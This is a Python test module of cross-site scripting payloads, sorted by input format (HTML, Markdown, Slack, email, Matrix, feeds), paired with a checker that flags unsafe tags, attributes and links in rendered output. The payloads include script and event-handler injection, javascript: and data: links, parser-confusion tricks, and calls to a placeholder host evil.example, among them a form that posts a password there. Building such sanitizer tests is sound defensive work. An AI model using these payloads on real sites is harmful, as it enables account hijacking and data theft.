"""Ways in which people tried to make somebody else's page do something, by the language they are written in, and a
judge. Every renderer, of ours or of an adapter, is tried with all that is written in its language, and with the rest
too: what is HTML in one tool is words in another.

Each runs `alert(1)`, loads something from elsewhere, or leads somewhere that a link may not.
"""

import html
import re

HTML = (
    # Elements that run or load by themselves
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script>alert(1)",
    "<script type=module>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</p><script>alert(1)</script><p>",
    "\ufeff<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<image src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/a 1x'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>press</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/>',
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=//evil.example/p.png>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/seen>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/p.png)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    # Handlers
    "<b onmouseover=alert(1)>over</b>",
    '<p onclick="alert(1)">press</p>',
    "<details open ontoggle=alert(1)>x</details>",
    "<details class=quoted ontoggle=alert(1) open><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<a autofocus tabindex=1 onfocus=alert(1)>x</a>",
    "<div contenteditable autofocus onfocus=alert(1)>x</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p style='animation:x' onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>",
    '<a href="https://ok.example" onclick=alert(1)>x</a>',
    '<a href="https://ok.example"onclick=alert(1)>x</a>',
    "<a href=`https://ok.example` onclick=`alert(1)`>x</a>",
    '<span class="mention" onpointerenter=alert(1)>@ana</span>',
    "<table background=javascript:alert(1)><tr><td onmouseenter=alert(1)>x</td></tr></table>",
    "<ol start='1' onmouseover='alert(1)'><li>x</ol>",
    # Addresses
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#09;script:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&#0000058alert(1)">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://ok.example/x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/sign-out/">x</a>',
    '<a href="?next=javascript:alert(1)">x</a>',
    '<a href="https://ok.example" ping="//evil.example/seen" target=_blank>x</a>',
    "<form action=javascript:alert(1)><button>press</button></form>",
    "<form action=//evil.example><input name=password type=password><button>press</button></form>",
    "<button form=x formaction=javascript:alert(1)>press</button>",
    "<isindex action=javascript:alert(1) type=image>",
    '<area href="javascript:alert(1)">',
    '<map name=x><area shape=rect coords=0,0,9,9 href="javascript:alert(1)"></map>',
    # Styles and names that take a page over
    "<div style='position:fixed;inset:0;background:url(//evil.example/p)'>x</div>",
    '<div style="width:expression(alert(1))">x</div>',
    '<div id="csrf" class="button primary">x</div>',
    "<p hx-get=//evil.example hx-trigger=load>x</p>",
    "<div data-hx-get=/sign-out/ data-hx-trigger=load>x</div>",
    "<form id=alert></form><a name=alert>x</a>",
    # What one parser reads in one way and another in another
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><a href="</title><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version=1.0?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;",
    "<%<img src=x onerror=alert(1)>%>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<a title='x\" onmouseover=\"alert(1)'>x</a>",
    '<a title="`onmouseover=alert(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p>{{constructor.constructor('alert(1)')()}}</p>",
)  # fmt: skip

MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1))",
    "[x]('javascript:alert(1)')",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example "\\"onmouseover=\\"alert(1)")',
    "[x](https://ok.example'onmouseover='alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](//evil.example/pixel.png)",
    '![x"onerror="alert(1)](https://ok.example/x.png)',
    "<javascript:alert(1)>",
    '<https://ok.example/"onmouseover=alert(1)>',
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/'><img src=x onerror=alert(1)>",
    "www.ok.example/<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <script>alert(1)</script> | c |",
    "> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "* <script>\n* alert(1)\n* </script>",
    "\\<script>alert(1)\\</script>",
    "<script>\n\nalert(1)\n\n</script>",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "mailto:a@b.example?subject=<script>alert(1)</script>",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "**<b onmouseover=alert(1)>x</b>**",
)  # fmt: skip

SLACK = (
    "<javascript:alert(1)|press>",
    "<JavaScript:alert(1)>",
    "<data:text/html,x|press>",
    '<https://ok.example/"onmouseover="alert(1)|press>',
    "<https://ok.example|<script>alert(1)</script>>",
    "<https://ok.example|&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<https://ok.example/'&gt;&lt;img src=x onerror=alert(1)&gt;|press>",
    "<@U1|<img src=x onerror=alert(1)>>",
    '<@U1|"onmouseover="alert(1)>',
    "<#C1|<script>alert(1)</script>>",
    "<!date^1^<script>alert(1)</script>^javascript:alert(1)|x>",
    "<!subteam^S1|<img src=x onerror=alert(1)>>",
    "<!here|<script>alert(1)</script>>",
    '<mailto:a@b.example?x="onmouseover=alert(1)|press>',
    "<slack://open?x=1|press>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "```<script>alert(1)</script>```",
    "`<img src=x onerror=alert(1)>`",
    "*<b onmouseover=alert(1)>x</b>*",
    "_~*<script>alert(1)</script>*~_",
    "&gt; <script>alert(1)</script>",
    ":<script>alert(1)</script>:",
    "\ue0000\ue001\ue0020\ue003<script>alert(1)</script>",
)  # fmt: skip

MAIL = (
    "<html><head><script>alert(1)</script></head><body onload=alert(1)>x</body></html>",
    "<body background=//evil.example/p.png><p>x</p></body>",
    '<div class="gmail_quote" onmouseover=alert(1)>x<script>alert(1)</script></div>',
    '<div class="gmail_signature"><img src=x onerror=alert(1)></div><script>alert(1)</script>',
    '<blockquote type="cite" onclick=alert(1)><img src=//evil.example/pixel width=1 height=1></blockquote>',
    '<div id="divRplyFwdMsg"><script>alert(1)</script></div>',
    "<div class='gmail_quote'><div class='gmail_quote'></div><script>alert(1)</script>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->x",
    "<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->",
    "<o:p onmouseover=alert(1)>x</o:p>",
    "<v:shape style='behavior:url(#default#VML)' onload=alert(1)>",
    "<xml><o:OfficeDocumentSettings onload=alert(1)></xml>",
    '<img src="cid:x@y" onerror=alert(1)>',
    '<a href="cid:javascript:alert(1)">x</a>',
    "<style>.x{list-style:url(//evil.example/p)}</style><ul class=x><li>x</ul>",
    "<td background='//evil.example/p.png'>x</td>",
    "<img src='https://evil.example/open?who=ana' width=1 height=1 alt=''>",
    "<bgsound src=//evil.example/x>",
    "<p>\r\nOn Monday Ana &lt;<a href='javascript:alert(1)'>ana@x.example</a>&gt; wrote:</p><blockquote>x</blockquote>",
)  # fmt: skip

MATRIX = (
    '<mx-reply><blockquote><a href="javascript:alert(1)">In reply to</a><script>alert(1)</script></blockquote></mx-reply>x',
    '<a href="https://matrix.to/#/@ana:x.example" onclick=alert(1)>Ana</a>',
    '<a href="https://matrix.to/#/<script>alert(1)</script>">x</a>',
    '<a href="javascript://matrix.to/#/@ana:x.example%0aalert(1)">Ana</a>',
    '<img src="mxc://evil.example/x" onerror=alert(1)>',
    '<img data-mx-emoticon src="//evil.example/pixel">',
    '<span data-mx-color="red;background:url(//evil.example/p)">x</span>',
    '<span data-mx-bg-color="#fff" style="background:url(//evil.example/p)">x</span>',
    '<span data-mx-spoiler="<img src=x onerror=alert(1)>">x</span>',
    '<span data-mx-maths="\\href{javascript:alert(1)}{x}"><code>x</code></span>',
    '<font color="red" onmouseover=alert(1)>x</font>',
    '<code class="language-x&quot; onmouseover=&quot;alert(1)">x</code>',
    "<pre><code class='language-html'><script>alert(1)</script></code></pre>",
    "<mx-reply><script>alert(1)</script>",
    "</mx-reply><script>alert(1)</script><mx-reply>",
    "<h1><details open ontoggle=alert(1)><summary>x</summary></details></h1>",
)  # fmt: skip

FEED = (
    '<content:encoded xmlns:content="x"><script>alert(1)</script></content:encoded>',
    '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></div>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script><![CDATA[",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    '<enclosure url="javascript:alert(1)"/>',
    "<media:content url='javascript:alert(1)'/>",
    "<a xml:base='javascript:alert(1)//' href='x'>x</a>",
)

EVERY = (*HTML, *MARKDOWN, *SLACK, *MAIL, *MATRIX, *FEED)

_TAGS = frozenset(
    re.findall(
        r"\w+",
        "a b blockquote br code del details div em h3 h4 h5 h6 hr i li ol p pre s span strong sub summary sup"
        " table tbody td th thead tr u ul",
    )
)
_PLAIN_ATTRIBUTES = frozenset(["title", "rel", "start", "colspan", "tabindex"])
_CLASSES = frozenset(["mention", "quoted"])
_TAG = re.compile(r"<(/?)([a-z][a-z0-9]*)((?: [a-z-]+=\"[^\"]*\")*) ?/?>")
_ATTRIBUTE = re.compile(r" ([a-z-]+)=\"([^\"]*)\"")
_ADDRESS = re.compile(r"(?:https?://[^\s/]|mailto:[^\s])", re.IGNORECASE)


def dangers(rendered: str) -> list[str]:
    """What in rendered HTML might act. Only what is written exactly as it has to be passes, so it does not matter
    which parser reads it: a sign `<` that begins no plain tag of the few that pages show is a danger by itself.
    """
    found: list[str] = []
    for tag in _TAG.finditer(rendered):
        closes, name, attributes = tag.groups()
        if name not in _TAGS or (closes and attributes):
            found.append(tag.group())
        found += [f"{name} {attribute}={value}" for attribute, value in _ATTRIBUTE.findall(attributes)
                  if not _is_harmless(name, attribute, html.unescape(value))]  # fmt: skip
    if "<" in (rest := _TAG.sub("", rendered)):
        found.append(rest[rest.index("<") :][:80])
    if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", rendered):
        found.append("a control sign")
    return found


def _is_harmless(tag: str, attribute: str, value: str) -> bool:
    if attribute == "href":
        return tag == "a" and bool(_ADDRESS.match(value)) and not re.search(r"[\x00-\x1f]", value)
    if attribute == "class":
        return set(value.split()) <= _CLASSES
    return attribute in _PLAIN_ATTRIBUTES
